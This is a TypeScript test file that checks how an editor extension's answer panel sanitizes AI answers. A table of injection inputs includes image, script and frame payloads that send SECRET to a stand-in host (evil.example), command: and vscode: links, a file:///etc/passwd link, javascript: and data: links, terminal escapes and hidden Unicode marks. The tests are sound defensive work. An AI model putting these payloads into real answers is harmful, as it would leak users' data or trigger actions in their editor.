import { expect, test } from "vitest";
import { boundAnswer } from "../../../src/core/ask/boundAnswer.ts";
import { parseAnswer } from "../../../src/webview/answer/parseAnswer.ts";
import { visibleText } from "../../../src/webview/dom/visibleText.ts";

/** Everything in an answer that could lead anywhere: only links have an address. */
function addressesIn(value: unknown): readonly unknown[] {
  if (Array.isArray(value)) return value.flatMap(addressesIn);
  if (typeof value !== "object" || value === null) return [];
  return Object.entries(value).flatMap(([name, each]) =>
    /^(url|src|href|command)$/.test(name) ? [each] : addressesIn(each),
  );
}

test.each([
  ["an image that sends data", "![x](https://evil.example/?q=SECRET)"],
  ["an image by reference", "![x][1]\n\n[1]: https://evil.example/?q=SECRET"],
  ["an image as HTML", '<img src="https://evil.example/?q=SECRET">'],
  ["a frame", '<iframe src="https://evil.example"></iframe>'],
  ["a style sheet", "<style>@import url(https://evil.example)</style>"],
  ["a script", "<script>fetch('https://evil.example')</script>"],
  ["a handler in SVG", '<svg onload="alert(1)">'],
  ["a command link", "[run](command:workbench.action.terminal.new)"],
  ["an encoded command link", "[run](&#99;ommand:workbench.action.quit)"],
  ["a vscode link", "[run](vscode://evil.extension/run)"],
  ["a file link", "[run](file:///etc/passwd)"],
  ["a javascript link", "[run](javascript:alert(1))"],
  ["a data link", "[run](data:text/html;base64,PHNjcmlwdD4=)"],
  ["an autolink of a command", "<command:workbench.action.quit>"],
  ["a protocol-relative link", "[run](//evil.example)"],
])("%s leads nowhere", (_name, text) => {
  expect(addressesIn(parseAnswer(text, 3))).toEqual([]);
});

test("a link that shows another address than it opens still names what it opens", () => {
  const [block] = parseAnswer("[https://good.example](https://evil.example)", 0);
  expect(block).toMatchObject({ inlines: [{ kind: "link", url: "https://evil.example" }] });
});

test("a made-up citation is struck, whatever is around it", () => {
  const [block] = parseAnswer("**[7]** and [99](https://a.example)", 2);
  expect(JSON.stringify(block)).toContain('{"kind":"missing","number":7}');
  expect(JSON.stringify(block)).not.toContain('"citation"');
});

test("terminal escapes and other controls never reach the panel", async () => {
  const chunks = (async function* () {
    yield "a\u001b[31mred\u001b]8;;https://evil.example\u0007b";
    yield "\u0000\u0008c\r\nd";
  })();
  let text = "";
  for await (const chunk of boundAnswer(chunks)) text += chunk;
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must be gone
  expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
});

test("marks that turn text round or hide are shown by their code", () => {
  expect(visibleText("access\u202egnp.exe")).toBe("access[U+202E]gnp.exe");
  expect(visibleText("a\u200bb\u2066c\ufeff")).toBe("a[U+200B]b[U+2066]c[U+FEFF]");
  expect(visibleText("naïve 👩‍👧 שלום")).toBe("naïve 👩‍👧 שלום");
});
